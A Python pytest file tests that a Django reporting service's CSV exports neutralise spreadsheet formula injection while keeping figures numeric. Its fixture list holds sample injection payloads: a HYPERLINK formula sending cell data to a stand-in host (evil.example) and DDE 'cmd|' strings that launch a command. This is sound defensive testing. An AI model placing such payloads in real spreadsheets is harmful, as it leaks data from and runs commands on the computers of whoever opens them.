"""CSV exports open safely in a spreadsheet: names a client or an operator chose never run as a
formula, while the figures stay numbers (issue #12.5)."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.test import Client

from reports.csv_export import csv_text, safe_cell
from reports.rollup import usage_rollup_run
from tests.factories import AccountFactory, ApiKeyFactory, UsageRecordFactory

URL = "/api/admin/reports/usage/"
DAY = datetime(2026, 9, 3, 10, 0, tzinfo=UTC)
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("value", "numeric", "cell"),
    [
        ("=1+1", False, "'=1+1"),
        ("+1", False, "'+1"),
        ("-1", False, "'-1"),  # text (a name) that looks like a number is still text
        ("@A1", False, "'@A1"),
        ("\t=1", False, "'\t=1"),
        ("\r=1", False, "'\r=1"),
        ("gpt-4o-mini", False, "gpt-4o-mini"),
        (" =1", False, " =1"),
        ("", False, ""),
        (None, False, ""),
        (-3, False, -3),
        (Decimal("-1.5"), False, Decimal("-1.5")),
        ("-1.5", True, "-1.5"),  # a refund as the reports render money
        ("0.0001234567", True, "0.0001234567"),
        ("-1+1", True, "'-1+1"),  # not a plain number: neutralised even in a numeric column
        ("-1e3", True, "'-1e3"),
        ("-1.5\n", True, "'-1.5\n"),
    ],
)
def test_safe_cell(value, numeric, cell):
    assert safe_cell(value, numeric=numeric) == cell


def test_csv_text_keeps_numbers_and_neutralises_text():
    text = csv_text(
        ("name", "cost", "requests"),
        [
            {"name": "-2+3", "cost": "-1.5", "requests": -1},
            {"name": "ok", "cost": None},
            {"name": "a\r=1+1\n@A1", "cost": "0", "requests": 2},
        ],
        numeric=("cost", "requests"),
    )

    # A CR or LF inside a cell is quoted, so it never starts a row of its own.
    assert _csv_rows(text) == [
        {"name": "'-2+3", "cost": "-1.5", "requests": "-1"},
        {"name": "ok", "cost": "", "requests": ""},
        {"name": "a\r=1+1\n@A1", "cost": "0", "requests": "2"},
    ]
    assert text.startswith("name,cost,requests\r\n")


@pytest.fixture
def named_records(db):
    """One served record per dangerous name: as its model, its key's and its account's name."""
    records = []
    for index, name in enumerate(DANGEROUS):
        key = ApiKeyFactory(name=name, account=AccountFactory(name=f"{name} #{index}"))
        records.append(
            UsageRecordFactory(
                key=key,
                model=name,
                served_model="upstream-model",
                created_at=DAY + timedelta(minutes=index),
                cost=Decimal("0.25") * (index + 1),
            )
        )
    usage_rollup_run()
    return records


@pytest.mark.parametrize("group_by", ["model", "key", "account"])
def test_report_csv_neutralises_dangerous_names(staff_client, named_records, group_by):
    response = staff_client.get(URL, {"group_by": group_by, "format": "csv"})

    assert response.status_code == 200
    lines = _csv_rows(response.content.decode())
    assert len(lines) == len(DANGEROUS)
    for line in lines:
        assert line["name"].startswith("'")
        assert not line["group"].startswith(("=", "+", "-", "@", "\t", "\r"))
    names = {line["name"] for line in lines}
    if group_by == "model":
        assert names == {"'" + name for name in DANGEROUS}
        assert {line["group"] for line in lines} == names
    elif group_by == "account":
        assert names == {f"'{name} #{index}" for index, name in enumerate(DANGEROUS)}
        assert {int(line["group"]) for line in lines} == {r.account_id for r in named_records}
    else:
        assert names == {f"'{r.key.name} ({r.key.prefix}…)" for r in named_records}
    # The figures are untouched numbers.
    assert sorted(Decimal(line["cost"]) for line in lines) == [
        Decimal("0.25") * n for n in range(1, 7)
    ]
    assert {line["requests"] for line in lines} == {"1"}


def test_report_csv_keeps_a_negative_amount_a_number(staff_client, db):
    UsageRecordFactory(created_at=DAY, model="-1", cost=Decimal("-1.5"))  # a correction

    response = staff_client.get(URL, {"group_by": "model", "format": "csv"})

    [line] = _csv_rows(response.content.decode())
    assert line["cost"] == "-1.5"
    assert line["group"] == line["name"] == "'-1"  # the model name is text


def test_statement_csv_neutralises_dangerous_model_names(staff_user, db):
    key = ApiKeyFactory()
    for index, name in enumerate(DANGEROUS):
        UsageRecordFactory(key=key, model=name, created_at=DAY, cost=Decimal(index + 1))
    UsageRecordFactory(key=key, model="gpt-4o-mini", created_at=DAY, cost=Decimal("-0.5"))
    usage_rollup_run()
    browser = Client()
    browser.force_login(staff_user)
    statement_url = f"/dashboard/billing/{key.account_id}/statement.csv"

    response = browser.get(statement_url, {"month": "2026-09"})

    assert response.status_code == 200
    lines = _csv_rows(response.content.decode())
    assert {line["model"]: line["cost"] for line in lines} == {
        **{"'" + name: str(index + 1) for index, name in enumerate(DANGEROUS)},
        "gpt-4o-mini": "-0.5",
    }
    assert {line["day"] for line in lines} == {"2026-09-03"}
    assert {line["requests"] for line in lines} == {"1"}
